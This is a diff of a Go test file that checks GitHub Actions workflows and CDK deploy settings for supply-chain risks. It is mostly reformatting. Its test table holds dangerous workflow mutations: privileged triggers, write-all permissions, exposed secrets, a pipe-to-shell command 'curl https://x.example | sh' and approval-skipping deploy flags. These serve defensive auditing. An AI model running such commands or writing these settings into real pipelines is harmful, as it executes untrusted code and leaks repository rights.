@@ -11,11 +11,11 @@ import (
 	"testing"
 )
 
-// What follows is threat S3: what runs with the rights of CI or of a deployer, where a reviewer of Go would not look. That
-// actions are pinned to commits is a test of tools/audit.
+// What follows is threat S3: what runs with the rights of CI or of a deployer, where a reviewer of Go would not look.
+// That actions are pinned to commits is a test of tools/audit.
 
-// trigger is what may start a workflow. pull_request gives somebody else's change a token that reads; pull_request_target,
-// workflow_run and issue_comment give it the repository's own rights and secrets.
+// trigger is what may start a workflow. pull_request gives somebody else's change a token that reads;
+// pull_request_target, workflow_run and issue_comment give it the repository's own rights and secrets.
 // https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout
 var triggers = []string{"push", "pull_request", "schedule", "workflow_dispatch"}
 
@@ -29,7 +29,8 @@ var (
 	exact = regexp.MustCompile(`^\d+\.\d+\.\d+$`)
 )
 
-// workflowProblems are what a workflow must not have. It reads the plain style that ours are written in, and refuses others.
+// workflowProblems are what a workflow must not have. It reads the plain style that ours are written in, and refuses
+// others.
 func workflowProblems(text string) []string {
 	var problems []string
 	add := func(problem string) { problems = append(problems, problem) }
@@ -118,16 +119,19 @@ func read(t *testing.T, file string) string {
 func TestADangerousWorkflowIsFound(t *testing.T) {
 	good := read(t, filepath.Join(root, ".github", "workflows", "ci.yml"))
 	for name, change := range map[string][2]string{
-		"another trigger":       {"  pull_request:\n", "  pull_request_target:\n"},
-		"a quoted trigger":      {"  pull_request:\n", "  \"issue_comment\":\n"},
-		"triggers on one line":  {"on:\n", "on: [push, pull_request_target]\nx:\n"},
-		"more rights":           {"  contents: read\n", "  contents: write\n"},
-		"another right":         {"  contents: read\n", "  contents: read\n  id-token: write\n"},
-		"all rights":            {"permissions:\n  contents: read\n", "permissions: write-all\n"},
-		"no rights named":       {"permissions:\n  contents: read\n", ""},
-		"rights of a job":       {"    runs-on:", "    permissions:\n      packages: write\n    runs-on:"},
-		"a token left behind":   {"          persist-credentials: false\n", "          fetch-depth: 0\n"},
-		"a second checkout":     {"      - uses: actions/setup-go", "      - uses: actions/checkout@x\n      - uses: actions/setup-go"},
+		"another trigger":      {"  pull_request:\n", "  pull_request_target:\n"},
+		"a quoted trigger":     {"  pull_request:\n", "  \"issue_comment\":\n"},
+		"triggers on one line": {"on:\n", "on: [push, pull_request_target]\nx:\n"},
+		"more rights":          {"  contents: read\n", "  contents: write\n"},
+		"another right":        {"  contents: read\n", "  contents: read\n  id-token: write\n"},
+		"all rights":           {"permissions:\n  contents: read\n", "permissions: write-all\n"},
+		"no rights named":      {"permissions:\n  contents: read\n", ""},
+		"rights of a job":      {"    runs-on:", "    permissions:\n      packages: write\n    runs-on:"},
+		"a token left behind":  {"          persist-credentials: false\n", "          fetch-depth: 0\n"},
+		"a second checkout": {
+			"      - uses: actions/setup-go",
+			"      - uses: actions/checkout@x\n      - uses: actions/setup-go",
+		},
 		"another command":       {"run: .ci/run", "run: curl https://x.example | sh"},
 		"a command by lines":    {"run: .ci/run", "run: |\n          make check"},
 		"a secret":              {"AUDIT_OFFLINE: refused", "KEY: ${{ secrets.KEY }}"},
@@ -260,7 +264,8 @@ func TestADeployAsksBeforeItWidensRights(t *testing.T) {
 		}
 	}
 	for line, want := range map[string]bool{
-		"cdk deploy --require-approval never": true, `"requireApproval": "never"`: true, `"--require-approval", "never"`: true,
+		"cdk deploy --require-approval " +
+			"never": true, `"requireApproval": "never"`: true, `"--require-approval", "never"`: true,
 		"--require-approval=never": true, "--require-approval broadening": false,
 	} {
 		if approves.MatchString(line) != want {
